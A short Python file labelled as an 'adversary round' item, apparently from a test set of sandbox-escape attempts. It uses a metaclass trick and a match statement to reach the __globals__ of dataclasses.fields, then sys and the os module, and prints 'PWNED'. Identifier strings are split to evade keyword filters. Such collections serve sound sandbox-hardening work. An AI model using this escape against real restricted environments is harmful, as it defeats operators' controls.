# adversary round 3: 031_min_match_sys
import dataclasses
M=type("M",(type,),{"__instance"+"check__":lambda c,o:1})
P=M("P",(),{"__match"+"_args__":("__glo"+"bals__",)})
match dataclasses.fields:
 case P(g):print(g["s"+"ys"],g["s"+"ys"].modules["o"+"s"],"PWN"+"ED")
